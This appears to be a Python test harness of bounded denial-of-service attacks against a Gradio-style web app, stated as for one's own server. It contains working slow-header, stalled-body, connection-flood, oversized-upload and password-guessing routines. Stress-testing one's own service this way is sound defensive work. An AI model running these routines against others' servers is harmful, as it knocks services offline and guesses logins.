"""Attacks on a running app by plain HTTP, each for a bounded time: `ATTACKS[name](url)`.

Only for one's own server. On this machine an attack comes from many loopback addresses, as from many clients.
"""

import asyncio
import ipaddress
import itertools
import json
import time
import uuid
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Any
from urllib.parse import urlsplit

SECONDS = 20.0  # of an attack
CLIENTS = 4  # addresses of an attack
MB = 2**20
FORM = "multipart/form-data; boundary=x"
JSON = "application/json"
API = "/gradio_api"

Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]
Session = Callable[["Target", int], Awaitable[object]]


class Target:
    """The attacked server; connections to it come from `clients` addresses in turn where it is local."""

    def __init__(self, url: str, clients: int = CLIENTS):
        parts = urlsplit(url)
        self.host, self.port = parts.hostname or "", parts.port or 80
        self._clients = clients

    def _source(self, number: int) -> tuple[str, int] | None:
        with suppress(ValueError):
            if ipaddress.ip_address(self.host) in ipaddress.ip_network("127.0.0.0/8"):
                client = number % self._clients
                return f"127.7.{client // 250}.{client % 250 + 1}", 0
        return None

    async def connect(self, number: int = 0) -> Connection:
        """Open a connection, as the client of this number."""
        async with asyncio.timeout(10):
            return await asyncio.open_connection(self.host, self.port, local_addr=self._source(number))

    def head(self, method: str, path: str, content_type: str = "", length: int = 0, more: str = "") -> bytes:
        """The headers of a request."""
        kind = f"Content-Type: {content_type}\r\n" if content_type else ""
        lines = f"{method} {path} HTTP/1.1\r\nHost: {self.host}:{self.port}\r\n{kind}{more}"
        return f"{lines}Content-Length: {length}\r\n\r\n".encode()

    async def request(
        self, method: str, path: str, body: bytes = b"", content_type: str = JSON, number: int = 0
    ) -> tuple[int, bytes]:
        """Status and body of the response to one request on a connection of its own."""
        reader, writer = await self.connect(number)
        try:
            writer.write(self.head(method, path, content_type, len(body), "Connection: close\r\n") + body)
            async with asyncio.timeout(60):
                response = await reader.read()
        finally:
            writer.close()
        start, _, content = response.partition(b"\r\n\r\n")
        return int(start.split()[1]) if start else 0, content


def bounded(attack: Callable[..., Awaitable[None]], url: str, seconds: float, clients: int) -> None:
    """Run `attack(target)` for `seconds`.

    Time limits here are `asyncio.timeout`: before Python 3.12 `wait_for` loses a cancellation that meets the
    end of what it waits for, and the attack never ends.
    """

    async def run() -> None:
        with suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                await attack(Target(url, clients))

    asyncio.run(run())


async def swarm(target: Target, session: Session, count: int) -> None:
    """Run `session(target, number)` on `count` tasks, each again and again."""

    async def repeat(number: int) -> None:
        while True:
            with suppress(OSError, ValueError, IndexError, TimeoutError, asyncio.IncompleteReadError):
                await session(target, number)
            await asyncio.sleep(0.05)

    async with asyncio.TaskGroup() as tasks:
        for number in range(count):
            tasks.create_task(repeat(number))


async def _hold(connection: Connection) -> None:
    """Keep a connection open and read nothing but its end."""
    reader, writer = connection
    try:
        while await reader.read(65536):
            pass
    finally:
        writer.close()


def idle_connections(url: str, seconds: float = SECONDS, clients: int = 200) -> None:
    """1,200 connections that send nothing, or one request, and are opened again when they are closed."""

    async def session(target: Target, number: int) -> None:
        connection = await target.connect(number)
        if number % 2:
            connection[1].write(target.head("GET", "/healthz"))
        await _hold(connection)

    bounded(lambda target: swarm(target, session, 1200), url, seconds, clients)


def slow_headers(url: str, seconds: float = SECONDS, clients: int = CLIENTS) -> None:
    """200 connections that send one header line a second, without an end."""

    async def session(target: Target, number: int) -> None:
        _, writer = await target.connect(number)
        try:
            writer.write(target.head("GET", "/")[:-2])
            while True:
                writer.write(b"X-Header: a\r\n")
                await writer.drain()
                await asyncio.sleep(1)
        finally:
            writer.close()

    bounded(lambda target: swarm(target, session, 200), url, seconds, clients)


def stalled_bodies(url: str, seconds: float = SECONDS, clients: int = CLIENTS) -> None:
    """240 bodies that stop before their end: of 20 MB, of 1 MB and of a few bytes."""

    async def session(target: Target, number: int) -> None:
        reader, writer = await target.connect(number)
        path, kind, size = (
            (f"{API}/component_server", FORM, 20 * MB) if number % 2 else (f"{API}/run/predict", JSON, MB)
        )
        writer.write(target.head("POST", path, kind, size))
        for _ in range(size // MB * 16 - 1 if number % 6 < 4 else 0):
            writer.write(bytes(MB // 16))
            await writer.drain()
        await _hold((reader, writer))

    bounded(lambda target: swarm(target, session, 240), url, seconds, clients)


def unread_responses(url: str, seconds: float = SECONDS, clients: int = CLIENTS) -> None:
    """50 connections that send requests without a pause and read no response."""

    async def session(target: Target, number: int) -> None:
        reader, writer = await target.connect(number)
        reader._transport.pause_reading()  # type: ignore[attr-defined]
        try:
            while True:
                writer.write(target.head("GET", "/config") * 100)
                await writer.drain()
        finally:
            writer.close()

    bounded(lambda target: swarm(target, session, 50), url, seconds, clients)


def join_body(function: int, data: list[Any], session: str | None = None, **more: Any) -> bytes:
    values = {"data": data, "fn_index": function, "session_hash": session or uuid.uuid4().hex, **more}
    return json.dumps(values).encode()


def made_up_sessions(url: str, seconds: float = SECONDS, clients: int = CLIENTS) -> None:
    """Requests of ever new sessions that read no answer."""

    async def session(target: Target, number: int) -> None:
        await target.request("POST", f"{API}/queue/join", join_body(2, ["x", "y"]), JSON, number)

    bounded(lambda target: swarm(target, session, 20), url, seconds, clients)


def large_values(url: str, seconds: float = SECONDS, clients: int = CLIENTS) -> None:
    """Values of nearly 2 MB for arguments that a session could keep, and event data of nested lists."""
    text = "x" * int(1.9 * MB)
    nested: list[Any] = []
    for _ in range(25):
        nested = [nested]
    functions = itertools.cycle(range(64))

    async def session(target: Target, number: int) -> None:
        name = f"session-{next(functions)}"
        for function, data in ((2, [text, ""]), (2, ["", text]), (1, ["", "", None, text, 0, 0, ""])):
            await target.request("POST", f"{API}/queue/join", join_body(function, data, name), JSON, number)
        event = join_body(next(functions), [], name, event_data=[nested] * 1000, trigger_id=1)
        await target.request("POST", f"{API}/run/predict", event, JSON, number)
        await target.request(
            "GET", f"{API}/upload_progress?upload_id={uuid.uuid4()}{'x' * 3900}", number=number
        )

    bounded(lambda target: swarm(target, session, 16), url, seconds, clients)


def upload_part(name: str, field: str = "files") -> bytes:
    return f'--x\r\nContent-Disposition: form-data; name="{field}"; filename="{name}"\r\n\r\n'.encode()


def cut_off_uploads(url: str, seconds: float = SECONDS, clients: int = CLIENTS) -> None:
    """Uploads of 20 MB that end in the middle or name no field that is kept; one never ends."""

    async def session(target: Target, number: int) -> None:
        _, writer = await target.connect(number)
        try:
            writer.write(target.head("POST", f"{API}/upload", FORM, 400 * MB if number == 0 else 20 * MB))
            writer.write(upload_part("a.zip", "files" if number % 2 else "others"))
            for _ in range(19):
                writer.write(bytes(MB))
                await writer.drain()
            while number == 0:
                writer.write(bytes(20_000))
                await asyncio.sleep(1)
        finally:
            writer.close()

    bounded(lambda target: swarm(target, session, 8), url, seconds, clients)


def promised_uploads(url: str, seconds: float = SECONDS, clients: int = CLIENTS) -> None:
    """200 uploads that declare 500 MB and send little of it."""

    async def session(target: Target, number: int) -> None:
        connection = await target.connect(number)
        connection[1].write(target.head("POST", f"{API}/upload", FORM, 500 * MB) + upload_part("a.zip"))
        await _hold(connection)

    bounded(lambda target: swarm(target, session, 200), url, seconds, clients)


def tiny_files(url: str, seconds: float = SECONDS, clients: int = CLIENTS) -> None:
    """Uploads of 1,000 files of a few bytes each, all different."""

    async def session(target: Target, number: int) -> None:
        mark = uuid.uuid4().hex
        parts = (upload_part(f"{i}.png") + f"{mark}{i}\r\n".encode() for i in range(1000))
        await target.request("POST", f"{API}/upload", b"".join(parts) + b"--x--\r\n", FORM, number)

    bounded(lambda target: swarm(target, session, 8), url, seconds, clients)


def wrong_passwords(url: str, seconds: float = SECONDS, clients: int = CLIENTS) -> None:
    """Wrong passwords without a pause; nothing where the app has no login."""

    async def session(target: Target, number: int) -> None:
        body = f"username=reader&password={time.monotonic_ns()}".encode()
        await target.request("POST", "/login", body, "application/x-www-form-urlencoded", number)

    bounded(lambda target: swarm(target, session, 20), url, seconds, clients)


ATTACKS: dict[str, Callable[..., None]] = {
    attack.__name__: attack
    for attack in (
        idle_connections,
        slow_headers,
        stalled_bodies,
        unread_responses,
        made_up_sessions,
        large_values,
        cut_off_uploads,
        promised_uploads,
        tiny_files,
        wrong_passwords,
    )
}
